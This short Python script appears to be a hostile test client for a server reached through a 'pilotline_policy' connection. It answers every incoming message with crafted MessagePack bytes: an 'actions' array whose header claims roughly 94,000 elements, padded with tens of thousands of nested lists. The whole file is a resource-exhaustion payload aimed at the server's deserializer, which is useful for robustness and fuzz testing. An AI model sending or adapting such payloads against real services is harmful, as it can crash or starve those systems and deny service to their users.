"""Answers bytes that are a hundred thousand lists, and arrays that say they are giant."""

from pilotline_policy import Connection

connection = Connection()
connection.send({"control": "ee", "batched": True})
while connection.receive():
    connection.send_bytes(b"\x81\xa7actions\xdd\x00\x01\x70\x00" + b"\x91\x90" * 47_000)
